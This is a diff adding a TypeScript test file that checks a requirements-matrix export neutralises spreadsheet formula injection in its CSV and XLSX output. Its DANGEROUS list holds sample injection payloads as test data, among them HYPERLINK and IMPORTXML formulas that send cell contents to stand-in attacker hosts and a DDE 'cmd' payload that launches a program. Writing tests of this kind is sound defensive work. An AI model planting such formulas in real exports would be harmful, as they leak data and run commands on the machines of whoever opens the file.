@@ -1,0 +1,97 @@
+import assert from 'node:assert/strict';
+import ExcelJS from 'exceljs';
+import { toCsv, csvField } from '../../src/core/export/csv';
+import { toXlsx } from '../../src/core/export/xlsx';
+import { neutralizeFormula } from '../../src/core/export/text';
+import type { Matrix, MatrixView } from '../../src/core/matrix/model';
+import { coverageOf } from '../../src/core/matrix/decide';
+
+/** Cells that spreadsheet programs would evaluate (OWASP CSV injection), and harmless look-alikes. */
+export const DANGEROUS = [
+  '=1+1',
+  '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
+  '+SUM(A1:A2)',
+  '-2+3',
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|' /C calc'!A0",
+  '=IMPORTXML(CONCAT("http://x.invalid/?", A1), "//a")',
+  '-@cmd',
+  '+"quoted, with comma"',
+  '=A1\nsecond line',
+];
+const HARMLESS = ['SEC-REQ-001', 'plain text', ' =leading space', 'a=b', "'already quoted", 'x_x0041_y', 'a\rb'];
+
+function view(values: string[]): MatrixView {
+  return {
+    name: 'requirements',
+    title: 'Requirements',
+    columns: [
+      { key: 'id', title: '=HEADER' },
+      { key: 'title', title: 'Title' },
+    ],
+    rows: values.map((v, i) => ({ id: `R${i}`, kind: 'requirement', status: 'OK', file: v, line: i + 1, zones: [], cells: { id: [{ text: v }], title: [{ text: v }, { text: '@second value' }] } })),
+    coverage: coverageOf([]),
+  };
+}
+
+/** Minimal RFC 4180 reader for the test. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let q = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (q) {
+      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      else if (c === '"') q = false;
+      else field += c;
+    } else if (c === '"') q = true;
+    else if (c === ',') row.push(field), (field = '');
+    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
+    else field += c;
+  }
+  return rows;
+}
+
+describe('formula injection', () => {
+  it('neutralises exactly the cells that start with = + - @ tab or CR', () => {
+    for (const d of DANGEROUS) assert.equal(neutralizeFormula(d), `'${d}`);
+    for (const h of HARMLESS) assert.equal(neutralizeFormula(h), h);
+  });
+
+  it("CSV: every dangerous cell reads back as ' + the original text (RFC 4180)", () => {
+    const csv = toCsv(view([...DANGEROUS, ...HARMLESS]));
+    assert.ok(csv.endsWith('\r\n'));
+    const rows = parseCsv(csv);
+    assert.equal(rows[0][0], "'=HEADER");
+    DANGEROUS.forEach((d, i) => {
+      assert.equal(rows[i + 1][0], `'${d}`);
+      assert.equal(rows[i + 1][2], `'${d}`, 'file column');
+    });
+    HARMLESS.forEach((h, i) => assert.equal(rows[DANGEROUS.length + i + 1][0], h));
+    assert.equal(csvField('a"b'), '"a""b"');
+    assert.equal(csvField('a,b'), '"a,b"');
+  });
+
+  it("XLSX: every dangerous cell is a string equal to ' + the original text; no formula anywhere", async () => {
+    const v = view([...DANGEROUS, ...HARMLESS]);
+    const m: Matrix = { version: 1, coverage: coverageOf([]), views: { requirements: v }, problems: [], severityNames: [] };
+    const bytes = await toXlsx(m);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.from(bytes) as never);
+    const ws = wb.worksheets[0];
+    assert.equal(ws.getCell(1, 1).value, "'=HEADER");
+    DANGEROUS.forEach((d, i) => {
+      for (const col of [1, 3]) {
+        const cell = ws.getCell(i + 2, col);
+        assert.equal(cell.type, ExcelJS.ValueType.String, `row ${i + 2} col ${col} type ${cell.type}`);
+        assert.equal(cell.value, `'${d}`);
+      }
+    });
+    HARMLESS.forEach((h, i) => assert.equal(ws.getCell(DANGEROUS.length + i + 2, 1).value, h, 'harmless text reads back unchanged'));
+    ws.eachRow((row) => row.eachCell((cell) => assert.notEqual(cell.type, ExcelJS.ValueType.Formula)));
+  });
+});
